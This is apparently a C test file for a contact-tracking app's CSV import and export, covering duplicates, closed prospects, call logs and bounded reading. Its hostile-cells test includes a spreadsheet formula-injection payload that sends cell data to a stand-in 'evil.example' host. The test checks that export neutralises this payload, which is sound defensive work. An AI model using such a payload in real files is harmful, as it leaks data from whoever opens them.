/* SPDX-License-Identifier: GPL-3.0-or-later */
#define G_LOG_DOMAIN "pursuit-test"

/* O_CLOEXEC and mkfifo() with -std=c17 */
#define _DEFAULT_SOURCE

#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <gio/gio.h>
#include <glib/gstdio.h>

#include "pursuit-csv.h"
#include "pursuit-store.h"
#include "test-util.h"

/* The CSV import and export against a database reopened from disk:
 * duplicates, hostile cells, the columns added for closed prospects, the
 * touches, and reading within bounds. */

typedef struct
{
  char         *dir;
  char         *path;
  PursuitStore *store;
} Fixture;

static void
fixture_set_up (Fixture       *f,
                gconstpointer  data)
{
  g_autoptr(GError) error = NULL;

  f->dir = pursuit_test_make_dir ("test-import");
  f->path = g_build_filename (f->dir, "pursuit.db", NULL);
  f->store = pursuit_store_open (f->path, &error);
  g_assert_no_error (error);
}

static void
fixture_tear_down (Fixture       *f,
                   gconstpointer  data)
{
  g_clear_object (&f->store);
  pursuit_test_remove_tree (f->dir);
  g_free (f->path);
  g_free (f->dir);
}

static void
reopen (Fixture *f)
{
  g_autoptr(GError) error = NULL;

  g_clear_object (&f->store);
  f->store = pursuit_store_open (f->path, &error);
  g_assert_no_error (error);
}

static GFile *
write_csv (Fixture    *f,
           const char *name,
           const char *contents)
{
  g_autofree char *path = g_build_filename (f->dir, name, NULL);
  g_autoptr(GError) error = NULL;

  g_assert_true (g_file_set_contents (path, contents, -1, &error));
  g_assert_no_error (error);
  return g_file_new_for_path (path);
}

static PursuitProspect *
add (Fixture    *f,
     const char *name,
     const char *company,
     const char *email,
     const char *phone)
{
  g_autoptr(PursuitProspect) prospect = pursuit_prospect_new (name);
  g_autoptr(GError) error = NULL;

  pursuit_prospect_set_company (prospect, company);
  pursuit_prospect_set_email (prospect, email);
  pursuit_prospect_set_phone (prospect, phone);
  g_assert_true (pursuit_store_add (f->store, prospect, &error));
  g_assert_no_error (error);
  return prospect;
}

static PursuitProspect *
find_by_name (PursuitStore *store,
              const char   *name)
{
  GListModel *model = pursuit_store_get_prospects (store);

  for (guint i = 0; i < g_list_model_get_n_items (model); i++)
    {
      g_autoptr(PursuitProspect) p = g_list_model_get_item (model, i);

      if (g_str_equal (pursuit_prospect_get_name (p), name))
        return p;
    }
  return NULL;
}

static guint
n_prospects (Fixture *f)
{
  return g_list_model_get_n_items (pursuit_store_get_prospects (f->store));
}

static void
assert_row (PursuitCsvReport *report,
            guint             i,
            guint             line,
            const char       *message)
{
  const PursuitCsvRowError *row;

  g_assert_cmpuint (i, <, report->errors->len);
  row = g_ptr_array_index (report->errors, i);
  g_assert_cmpuint (row->line, ==, line);
  g_assert_cmpstr (row->message, ==, message);
}

/* Duplicates */

#define DUPLICATES_CSV                                                       \
  "name,company,email,phone,notes\n"                                         \
  "Chris O.,,CHRIS@acme.example,,by email\n"           /* 2 */               \
  "Ann Lee,,,(1) 555-010022,by phone\n"                /* 3 */               \
  "zoe muller,ANGSTROM AB,,,by name\n"                 /* 4 */               \
  "New Person,,new@example.com,,new\n"                 /* 5 */               \
  "New Again,,NEW@example.com,,repeats 5\n"            /* 6 */               \
  "Zoë Müller,Other Company,,,not a duplicate\n"       /* 7 */

static void
seed_people (Fixture *f)
{
  add (f, "Chris Ortiz", "Acme", "chris@acme.example", "");
  add (f, "Ann Lee", "", "", "+1 555 0100 22");
  add (f, "Zoë Müller", "Ångström AB", "", "");
}

static void
test_duplicates_skipped (Fixture       *f,
                         gconstpointer  data)
{
  g_autoptr(GFile) file = write_csv (f, "dup.csv", DUPLICATES_CSV);
  g_autoptr(PursuitCsvReport) report = NULL;
  g_autoptr(GError) error = NULL;
  const PursuitCsvRowError *row;

  seed_people (f);
  g_assert_true (pursuit_csv_import (f->store, file, &report, &error));
  g_assert_no_error (error);

  g_assert_cmpuint (report->imported, ==, 2);
  g_assert_cmpuint (report->duplicates, ==, 4);
  g_assert_cmpuint (report->skipped, ==, 4);
  g_assert_cmpuint (report->invalid, ==, 0);
  g_assert_cmpuint (report->updated, ==, 0);
  g_assert_cmpuint (report->added->len, ==, 2);
  g_assert_cmpuint (report->changed->len, ==, 0);
  assert_row (report, 0, 2, "“Chris O.” is already in Pursuit (same email)");
  assert_row (report, 1, 3, "“Ann Lee” is already in Pursuit (same phone number)");
  assert_row (report, 2, 4, "“zoe muller” is already in Pursuit (same name and company)");
  assert_row (report, 3, 6, "“New Again” repeats line 5 (same email)");
  row = g_ptr_array_index (report->errors, 0);
  g_assert_cmpint (row->duplicate_of, ==, 1);
  row = g_ptr_array_index (report->errors, 3);
  g_assert_cmpint (row->duplicate_of, ==, 0);

  reopen (f);
  g_assert_cmpuint (n_prospects (f), ==, 5);
  g_assert_nonnull (find_by_name (f->store, "New Person"));
  g_assert_null (find_by_name (f->store, "New Again"));
  g_assert_cmpstr (pursuit_prospect_get_notes (find_by_name (f->store, "Chris Ortiz")), ==, "");

  /* Importing the same file again adds nothing. */
  g_clear_pointer (&report, pursuit_csv_report_free);
  g_assert_true (pursuit_csv_import (f->store, file, &report, &error));
  g_assert_cmpuint (report->imported, ==, 0);
  g_assert_cmpuint (report->duplicates, ==, 6);
  reopen (f);
  g_assert_cmpuint (n_prospects (f), ==, 5);
}

static void
test_duplicates_updated (Fixture       *f,
                         gconstpointer  data)
{
  g_autoptr(GFile) file = write_csv (f, "dup.csv", DUPLICATES_CSV);
  g_autoptr(PursuitCsvReport) report = NULL;
  g_autoptr(GError) error = NULL;
  PursuitProspect *chris;

  seed_people (f);
  g_assert_true (pursuit_csv_import_full (f->store, file, PURSUIT_CSV_ON_DUPLICATE_UPDATE, NULL, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (report->imported, ==, 2);
  g_assert_cmpuint (report->updated, ==, 4);
  g_assert_cmpuint (report->skipped, ==, 0);
  /* What an Undo needs: the new ones, the updated ones and their values
   * before. */
  g_assert_cmpuint (report->added->len, ==, 2);
  g_assert_cmpuint (report->changed->len, ==, 3);
  g_assert_cmpuint (report->before->len, ==, 3);
  g_assert_cmpstr (pursuit_prospect_get_name (g_ptr_array_index (report->changed, 0)), ==, "Chris O.");
  g_assert_cmpstr (pursuit_prospect_get_name (g_ptr_array_index (report->before, 0)), ==, "Chris Ortiz");
  g_assert_cmpint (pursuit_prospect_get_id (g_ptr_array_index (report->added, 0)), >, 0);

  reopen (f);
  g_assert_cmpuint (n_prospects (f), ==, 5);
  /* The cells the file fills replace the values, the empty ones keep them. */
  chris = find_by_name (f->store, "Chris O.");
  g_assert_nonnull (chris);
  g_assert_cmpstr (pursuit_prospect_get_company (chris), ==, "Acme");
  g_assert_cmpstr (pursuit_prospect_get_email (chris), ==, "CHRIS@acme.example");
  g_assert_cmpstr (pursuit_prospect_get_notes (chris), ==, "by email");
  g_assert_cmpstr (pursuit_prospect_get_notes (find_by_name (f->store, "Ann Lee")), ==, "by phone");
  g_assert_cmpstr (pursuit_prospect_get_company (find_by_name (f->store, "zoe muller")), ==, "ANGSTROM AB");
  /* Row 6 updated the prospect row 5 added. */
  g_assert_null (find_by_name (f->store, "New Person"));
  g_assert_cmpstr (pursuit_prospect_get_notes (find_by_name (f->store, "New Again")), ==, "repeats 5");
}

/* Hostile cells */

static const char *const hostile[] = {
  "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
  "+1-555-0100",
  "+44 20 7946 0958",
  "-2+3",
  "@SUM(A1:A9)",
  "\tTabbed",
  "\rReturn",
  "'=already quoted",
  "''+two quotes",
  "'plain quote",
  "'",
  "O'Brien",
};

static void
test_formula_round_trip (Fixture       *f,
                         gconstpointer  data)
{
  g_autofree char *export_path = g_build_filename (f->dir, "export.csv", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (export_path);
  g_autofree char *contents = NULL;
  g_autoptr(PursuitCsvReport) report = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *second_path = g_build_filename (f->dir, "second.db", NULL);
  g_autoptr(PursuitStore) second = NULL;
  g_auto(GStrv) lines = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
    {
      g_autofree char *name = g_strdup_printf ("Name %u %s", i, hostile[i]);

      add (f, hostile[i], hostile[i], "", hostile[i]);
      add (f, name, "", "", "");
    }
  g_assert_true (pursuit_csv_export (pursuit_store_get_prospects (f->store), file, &error));
  g_assert_no_error (error);

  /* No cell starts with a trigger: each such cell is quoted, then a
   * quote. */
  g_assert_true (g_file_get_contents (export_path, &contents, NULL, &error));
  g_assert_nonnull (strstr (contents, "\"'=HYPERLINK(\"\"http://evil"));
  g_assert_nonnull (strstr (contents, "\"'+44 20 7946 0958\""));
  g_assert_nonnull (strstr (contents, "\"''=already quoted\""));
  g_assert_nonnull (strstr (contents, ",'plain quote,"));
  g_assert_null (strstr (contents, ",=HYPERLINK"));
  g_assert_null (strstr (contents, ",+1-555"));
  g_assert_null (strstr (contents, "\n=HYPERLINK"));
  g_assert_null (strstr (contents, "\n@SUM"));

  /* Read back, every text is as it was. */
  second = pursuit_store_open (second_path, &error);
  g_assert_no_error (error);
  g_assert_true (pursuit_csv_import (second, file, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (report->skipped, ==, 0);
  g_clear_object (&second);
  second = pursuit_store_open (second_path, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
    {
      PursuitProspect *p = find_by_name (second, hostile[i]);

      g_assert_nonnull (p);
      g_assert_cmpstr (pursuit_prospect_get_company (p), ==, hostile[i]);
      g_assert_cmpstr (pursuit_prospect_get_phone (p), ==, hostile[i]);
    }
  g_assert_cmpuint (g_list_model_get_n_items (pursuit_store_get_prospects (second)), ==,
                    2 * G_N_ELEMENTS (hostile));
  lines = g_strsplit (contents, "\r\n", -1);
  g_assert_cmpstr (lines[0], ==, PURSUIT_CSV_HEADER);
}

/* Closed prospects: reason and revisit date survive export and import. */
static void
test_closing_columns (Fixture       *f,
                      gconstpointer  data)
{
  g_autoptr(GTimeZone) zone = g_time_zone_new_local ();
  g_autoptr(GDateTime) revisit = g_date_time_new (zone, 2027, 6, 1, 9, 0, 0);
  g_autofree char *export_path = g_build_filename (f->dir, "export.csv", NULL);
  g_autofree char *second_path = g_build_filename (f->dir, "second.db", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (export_path);
  g_autoptr(PursuitStore) second = NULL;
  g_autoptr(PursuitCsvReport) report = NULL;
  g_autoptr(GError) error = NULL;
  PursuitProspect *lost = add (f, "Lost Lisa", "", "lisa@example.com", "");
  PursuitProspect *copy;

  g_assert_true (pursuit_store_let_go (f->store, lost, PURSUIT_CLOSE_REASON_NOT_SERIOUS, revisit, &error));
  g_assert_no_error (error);
  reopen (f);
  g_assert_true (pursuit_csv_export (pursuit_store_get_prospects (f->store), file, &error));
  g_assert_no_error (error);

  second = pursuit_store_open (second_path, &error);
  g_assert_no_error (error);
  g_assert_true (pursuit_csv_import (second, file, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (report->imported, ==, 1);
  g_clear_object (&second);
  second = pursuit_store_open (second_path, &error);
  g_assert_no_error (error);

  copy = find_by_name (second, "Lost Lisa");
  g_assert_nonnull (copy);
  g_assert_cmpint (pursuit_prospect_get_stage (copy), ==, PURSUIT_STAGE_CLOSED);
  g_assert_cmpstr (pursuit_prospect_get_close_reason (copy), ==, PURSUIT_CLOSE_REASON_NOT_SERIOUS);
  g_assert_nonnull (pursuit_prospect_get_revisit_at (copy));
  g_assert_true (g_date_time_equal (pursuit_prospect_get_revisit_at (copy), revisit));
}

/* Touches */

static void
log_touch (Fixture         *f,
           PursuitProspect *prospect,
           GDateTime       *when,
           PursuitOutcome   outcome,
           const char      *note)
{
  g_autoptr(PursuitTouch) touch = pursuit_touch_new (pursuit_prospect_get_id (prospect), when,
                                                     PURSUIT_CHANNEL_CALL, PURSUIT_DIRECTION_OUT, outcome);
  g_autoptr(GError) error = NULL;

  pursuit_touch_set_note (touch, note);
  g_assert_true (pursuit_store_add_touch (f->store, touch, &error));
  g_assert_no_error (error);
}

static void
test_export_touches (Fixture       *f,
                     gconstpointer  data)
{
  g_autoptr(GTimeZone) zone = g_time_zone_new_local ();
  g_autoptr(GDateTime) first = g_date_time_new (zone, 2026, 3, 2, 10, 0, 0);
  g_autoptr(GDateTime) second = g_date_time_new (zone, 2026, 3, 9, 11, 30, 0);
  g_autofree char *path = g_build_filename (f->dir, "touches.csv", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GError) error = NULL;
  g_autofree char *contents = NULL;
  g_autofree char *t1 = NULL;
  g_autofree char *t2 = NULL;
  g_autofree char *expected = NULL;
  PursuitProspect *jane = add (f, "Jane, Doe", "", "jane@example.com", "");

  add (f, "No Touches", "", "", "");
  log_touch (f, jane, second, PURSUIT_OUTCOME_REPLIED, "said \"later\"");
  log_touch (f, jane, first, PURSUIT_OUTCOME_NO_ANSWER, "=cmd");
  reopen (f);

  g_assert_true (pursuit_csv_export_touches (f->store, file, &error));
  g_assert_no_error (error);
  g_assert_true (g_file_get_contents (path, &contents, NULL, &error));
  t1 = g_date_time_format_iso8601 (first);
  t2 = g_date_time_format_iso8601 (second);
  expected = g_strdup_printf (PURSUIT_CSV_TOUCHES_HEADER "\r\n"
                              "jane@example.com,\"Jane, Doe\",%s,call,out,no-answer,,\"'=cmd\",\r\n"
                              "jane@example.com,\"Jane, Doe\",%s,call,out,replied,,\"said \"\"later\"\"\",\r\n",
                              t1, t2);
  g_assert_cmpstr (contents, ==, expected);
}

/* Reading within bounds */

static void
test_unclosed_quote_lines (Fixture       *f,
                           gconstpointer  data)
{
  g_autoptr(GFile) file = write_csv (f, "open.csv",
                                     "name,notes\n"
                                     "Ann,ok\n"
                                     "Ben,\"never closed\n"
                                     "Cy,swallowed\n"
                                     "Dee,swallowed\n");
  g_autoptr(PursuitCsvReport) report = NULL;
  g_autoptr(GError) error = NULL;

  g_assert_true (pursuit_csv_import (f->store, file, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (report->imported, ==, 1);
  assert_row (report, 0, 3,
              "a quoted field opened on line 3 is not closed before the end of the file: it took 3 lines, "
              "3 to 5, which are all skipped; add the missing quote");
}

static void
test_dev_zero (Fixture       *f,
               gconstpointer  data)
{
  g_autoptr(GFile) file = g_file_new_for_path ("/dev/zero");
  g_autoptr(PursuitCsvReport) report = NULL;
  g_autoptr(GError) error = NULL;

  if (!g_file_test ("/dev/zero", G_FILE_TEST_EXISTS))
    {
      g_test_skip ("no /dev/zero");
      return;
    }
  add (f, "Kept", "", "", "");
  g_assert_false (pursuit_csv_import (f->store, file, &report, &error));
  g_assert_error (error, PURSUIT_CSV_ERROR, PURSUIT_CSV_ERROR_TOO_BIG);
  g_assert_nonnull (strstr (error->message, "/dev/zero"));
  g_assert_nonnull (strstr (error->message, "Line 1"));
  g_assert_null (report);
  reopen (f);
  g_assert_cmpuint (n_prospects (f), ==, 1);
}

/* Millions of tiny rows are refused before any becomes a prospect. */
static void
test_too_many_rows (Fixture       *f,
                    gconstpointer  data)
{
  g_autoptr(GString) csv = g_string_new ("name\n");
  g_autoptr(PursuitCsvReport) report = NULL;
  g_autoptr(GPtrArray) prospects = NULL;
  g_autoptr(GError) error = NULL;

  for (guint i = 0; i <= PURSUIT_CSV_MAX_ROWS; i++)
    g_string_append (csv, "a\n");
  prospects = pursuit_csv_parse (csv->str, csv->len, &report, &error);
  g_assert_error (error, PURSUIT_CSV_ERROR, PURSUIT_CSV_ERROR_TOO_BIG);
  g_assert_null (prospects);
  g_assert_null (report);
}

static gpointer
cancel_later (gpointer data)
{
  g_usleep (200 * 1000);
  g_cancellable_cancel (data);
  return NULL;
}

/* A FIFO whose writer never closes it: cancelling stops the import. */
static void
test_fifo_cancelled (Fixture       *f,
                     gconstpointer  data)
{
  g_autofree char *fifo = g_build_filename (f->dir, "pipe.csv", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (fifo);
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(PursuitCsvReport) report = NULL;
  g_autoptr(GError) error = NULL;
  GThread *canceller;
  int writer;

  g_assert_cmpint (mkfifo (fifo, 0600), ==, 0);
  writer = open (fifo, O_RDWR | O_CLOEXEC); /* holds it open, never closes */
  g_assert_cmpint (writer, >=, 0);
  g_assert_cmpint (write (writer, "name\nAnn\n", 9), ==, 9);

  canceller = g_thread_new ("cancel", cancel_later, cancellable);
  g_assert_false (pursuit_csv_import_full (f->store, file, PURSUIT_CSV_ON_DUPLICATE_SKIP, cancellable, &report,
                                           &error));
  g_thread_join (canceller);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_assert_nonnull (strstr (error->message, "interrupted"));
  close (writer);
  reopen (f);
  g_assert_cmpuint (n_prospects (f), ==, 0);
}

/* The command line: SIGINT stops an import from a FIFO that never ends,
 * with a message, and the database is as it was. */

/* Whether process @pid has @path open, waiting up to a minute for it. */
static gboolean
wait_open_in (const char *pid,
              const char *path)
{
  g_autofree char *fds = g_build_filename ("/proc", pid, "fd", NULL);
  gint64 deadline = g_get_monotonic_time () + 60 * G_USEC_PER_SEC;

  while (g_get_monotonic_time () < deadline)
    {
      g_autoptr(GDir) dir = g_dir_open (fds, 0, NULL);
      const char *name;

      while (dir != NULL && (name = g_dir_read_name (dir)) != NULL)
        {
          g_autofree char *link = g_build_filename (fds, name, NULL);
          g_autofree char *target = g_file_read_link (link, NULL);

          if (g_strcmp0 (target, path) == 0)
            return TRUE;
        }
      g_usleep (10 * 1000);
    }
  return FALSE;
}

static void
test_cli_interrupted (Fixture       *f,
                      gconstpointer  data)
{
  g_autofree char *fifo = g_build_filename (f->dir, "pipe.csv", NULL);
  g_autoptr(GSubprocess) child = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) err = NULL;
  const char *err_text;
  int writer;

  add (f, "Kept", "", "", "");
  g_clear_object (&f->store);
  g_assert_cmpint (mkfifo (fifo, 0600), ==, 0);
  writer = open (fifo, O_RDWR | O_CLOEXEC);
  g_assert_cmpint (writer, >=, 0);
  g_assert_cmpint (write (writer, "name\nAnn\n", 9), ==, 9);

  child = g_subprocess_new (G_SUBPROCESS_FLAGS_STDOUT_SILENCE | G_SUBPROCESS_FLAGS_STDERR_PIPE, &error,
                            PURSUIT_EXECUTABLE, "--database", f->path, "--import-csv", fifo, NULL);
  g_assert_no_error (error);
  /* Once it reads the pipe, it stops on the signal (a slow build may take
   * seconds to get there). */
  g_assert_true (wait_open_in (g_subprocess_get_identifier (child), fifo));
  g_subprocess_send_signal (child, SIGINT);
  g_assert_true (g_subprocess_communicate (child, NULL, NULL, NULL, &err, &error));
  g_assert_no_error (error);
  close (writer);

  g_assert_true (g_subprocess_get_if_exited (child));
  g_assert_cmpint (g_subprocess_get_exit_status (child), !=, 0);
  err_text = g_bytes_get_data (err, NULL);
  g_test_message ("stderr: %s", err_text);
  g_assert_nonnull (strstr (err_text, "interrupted"));
  reopen (f);
  g_assert_cmpuint (n_prospects (f), ==, 1);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

#define TEST(path, func) g_test_add ("/io/import/" path, Fixture, NULL, fixture_set_up, func, fixture_tear_down)
  TEST ("duplicates/skipped", test_duplicates_skipped);
  TEST ("duplicates/updated", test_duplicates_updated);
  TEST ("formula-round-trip", test_formula_round_trip);
  TEST ("closing-columns", test_closing_columns);
  TEST ("export-touches", test_export_touches);
  TEST ("unclosed-quote-lines", test_unclosed_quote_lines);
  TEST ("dev-zero", test_dev_zero);
  TEST ("too-many-rows", test_too_many_rows);
  TEST ("fifo-cancelled", test_fifo_cancelled);
  TEST ("cli-interrupted", test_cli_interrupted);
#undef TEST
  return g_test_run ();
}
